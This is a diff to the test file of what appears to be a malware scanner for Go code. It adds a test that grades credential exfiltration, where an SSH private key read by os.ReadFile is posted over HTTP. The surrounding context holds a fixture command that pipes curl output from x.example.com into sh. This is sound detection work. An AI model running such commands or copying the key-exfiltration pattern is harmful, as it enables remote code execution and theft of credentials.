@@ -77,6 +77,29 @@ test('judgeFacts: what a build says is nothing about the machine, and an address
   assert.deepEqual(judge(call).findings[0]?.path, ['site a.go:5:net/http.Get', 'place a.go:5'])
 })
 
+test('judgeFacts: data that comes through four packages is told one level milder, unless an import sends it', () => {
+  const through = (...folders: readonly string[]): ReturnType<typeof source> =>
+    source(
+      'file',
+      7,
+      'os.ReadFile',
+      ['…/.ssh/id_rsa'],
+      folders.map((folder) => ({ file: `${folder}/x.go`, line: 3, what: 'Get gives it' })),
+    )
+  const post = (one: ReturnType<typeof source>, reach = open): GivenEffect =>
+    get(8, FAR, {
+      call: 'net/http.Post',
+      given: [
+        ['url', FAR],
+        ['data', { sources: [one] }],
+      ],
+      reach,
+    })
+  assert.deepEqual(said(post(through('a', 'b'))), ['MW-EXFIL-CRED critical 8'])
+  assert.deepEqual(said(post(through('a', 'b', 'c'))), ['MW-EXFIL-CRED high 8'])
+  assert.ok(said(post(through('a', 'b', 'c'), init)).includes('MW-EXFIL-CRED critical 8'))
+})
+
 test('MW-PIPE-SH: a command line that does harm, wherever it is reached from, with its text', () => {
   const { verdict, findings } = judge(run(9, ['sh', '-c', 'curl -s https://x.example.com/i | sh'], { reach: open }))
   assert.equal(verdict, 'malicious')
